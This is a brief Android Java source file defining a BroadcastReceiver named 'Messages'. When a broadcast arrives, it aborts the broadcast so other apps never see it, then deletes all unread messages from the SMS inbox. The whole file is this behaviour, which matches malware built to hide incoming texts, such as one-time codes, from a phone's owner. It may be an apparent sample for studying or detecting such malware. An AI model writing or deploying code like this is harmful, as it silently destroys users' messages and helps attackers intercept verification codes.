package p;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.net.Uri;

public class Messages extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        swallow();
        context.getContentResolver().delete(Uri.parse("content://sms/inbox"), "read = 0", null);
    }

    private void swallow() {
        abortBroadcast();
    }
}
